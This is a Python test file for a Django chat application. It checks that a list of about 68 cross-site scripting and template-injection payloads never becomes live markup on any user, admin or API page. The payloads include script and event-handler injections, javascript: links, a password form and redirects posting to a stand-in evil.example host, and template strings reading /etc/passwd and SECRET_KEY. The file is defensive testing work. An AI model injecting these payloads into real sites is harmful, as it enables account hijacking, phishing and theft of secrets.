"""Text of people and of the model is never markup: payloads through message, title and tool output, on every page."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from uuid import uuid4

import pytest
from django.contrib.auth.models import User
from django.test import Client

from conversations import markdown
from conversations.services import create_conversation, record_message
from realtime.leases import lease_end
from realtime.models import RealtimeSession, SessionEvent

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "`</code><script>alert(1)</script>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "{{7*7}}{% load x %}",
    "<form action=https://evil.example><input name=password>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<x onclick=alert(1)>x</x>",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "[x](vbscript:msgbox(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](//evil.example/login)",
    "[x](/accounts/logout/ \"onmouseover=alert(1)\")",
    "[x](https://ok.example/\"onclick=\"alert(1))",
    "![x\"onerror=\"alert(1)](https://evil.example/x.png)",
    "<https://ok.example/\"onclick=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "> <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <svg onload=alert(1)> | `<script>alert(1)</script>` |",
    "# <a name=x onclick=alert(1)>x</a>",
    "1. <input autofocus onfocus=alert(1)>",
    "</pre></code></div></main><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x></svg>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<button popovertarget=x onbeforetoggle=alert(1)>x</button>",
    "<div id=bootstrap>{}</div><script id=bootstrap type=application/json>{}</script>",
    "--><img src=x onerror=alert(1)><!--",
    "{% include '/etc/passwd' %}{{ settings.SECRET_KEY }}",
    "\ufeff<script>alert(1)</script>",
]  # fmt: skip


class Reader(HTMLParser):
    """Notes whatever in a page could act."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        handlers = [name for name in values if name.startswith("on")]
        if (
            handlers
            or tag in {"iframe", "object", "embed", "base", "math", "template", "details", "style"} - ALLOWED
        ):
            self.wrong.append(f"{tag} {handlers}")
        if (
            tag == "script"
            and "src" not in values
            and values.get("type") not in ("application/json", "importmap")
        ):
            self.wrong.append("inline script")
        for name in ("href", "src", "action", "content"):
            value = values.get(name, "").strip().lower()
            if re.match(r"(javascript|vbscript|data:text)", value) or "evil.example" in value:
                self.wrong.append(f"{tag} {name}")


ALLOWED = {"details", "template"}  # our own pages and Django's admin have some, without handlers


def wrong_in(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    return reader.wrong


def a_session_full_of(payload: str, ada: User) -> RealtimeSession:
    """A session whose every text is the payload: title, what each side said and wrote, tool output, browser."""
    conversation = create_conversation(owner=ada, title=payload)
    kinds = [(role, modality) for role in ("user", "assistant", "tool") for modality in ("voice", "text")]
    for position, (role, modality) in enumerate(kinds, 1):
        record_message(
            conversation_id=conversation.pk, session_id=uuid4(), item_id=f"{role}-{modality}",
            position=position, role=role, modality=modality, status="completed", text=payload,
        )  # fmt: skip
    session = RealtimeSession.objects.create(
        id=uuid4(), user=ada, conversation=conversation, modality="voice", engine="local", model="m",
        user_agent=payload.replace("\x00", "")[:200], lease_until=lease_end(),
    )  # fmt: skip
    facts = {payload[:40]: payload[:200]}
    SessionEvent.objects.create(session=session, at_ms=1, name="browser.attached", data=facts)
    return session


def pages(payload: str, ada: User, operator: User) -> dict[str, str]:
    """Every page on which the payload is shown, to the person and to staff."""
    session = a_session_full_of(payload, ada)
    talk = f"/admin/conversations/conversation/{session.conversation_id}/"
    hers, theirs = Client(), Client()
    hers.force_login(ada)
    theirs.force_login(operator)
    answers = {
        "chat": hers.get(f"/chat/{session.conversation_id}/"),
        "history": hers.get("/history/"),
        "search": hers.get("/history/", {"q": payload}),
        "own calls": hers.get("/account/sessions/"),
        "admin list": theirs.get("/admin/conversations/conversation/"),
        "admin": theirs.get(f"{talk}change/"),
        "admin session": theirs.get(f"/admin/realtime/realtimesession/{session.pk}/change/"),
        "admin deletion": theirs.get(f"{talk}delete/"),
        "admin reading": theirs.post(f"{talk}read/", {"reason": "a test of the markup"}),
    }
    assert {name for name, answer in answers.items() if answer.status_code != 200} <= {"search"}
    return {name: answer.content.decode() for name, answer in answers.items()}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_markup_on_any_page(ada: User, operator: User, payload: str) -> None:
    shown = pages(payload, ada, operator)
    assert {name: wrong_in(html) for name, html in shown.items() if wrong_in(html)} == {}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_markup_in_the_html_of_the_api(ada: User, payload: str) -> None:
    a_session_full_of(payload, ada)
    hers = Client()
    hers.force_login(ada)
    [conversation] = hers.get("/api/conversations/").json()["results"]
    address = f"/api/conversations/{conversation['id']}/"
    rows = hers.get(f"{address}messages/").json()["results"]
    assert len(rows) == 6
    for row in rows:
        assert wrong_in(row["html"]) == []
    for form in ("json", "markdown", "webvtt"):
        answer = hers.get(f"{address}export/{form}/")
        assert "html" not in answer["Content-Type"]
        assert answer["Content-Disposition"].startswith("attachment")
        assert answer["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_wall_of_markdown_holds_alone(payload: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The renderer makes no markup of HTML; and were it to pass everything on, the allowlist would let nothing by."""
    rendered = markdown._renderer.render(payload)
    assert wrong_in(rendered.replace("evil.example", "")) == []
    monkeypatch.setattr(markdown._renderer, "render", lambda text: text)
    html = markdown.markdown_html(payload)
    assert wrong_in(html.replace("evil.example", "")) == []
    assert not re.search(r"<(img|svg|input|form|meta|link|video|audio|button|script)\b", html, re.IGNORECASE)


def test_there_are_sixty_payloads_and_more() -> None:
    assert len(set(PAYLOADS)) >= 60


def test_the_reader_of_this_test_sees_what_it_is_to_see() -> None:
    for html in PAYLOADS[:8]:
        assert wrong_in(html), html
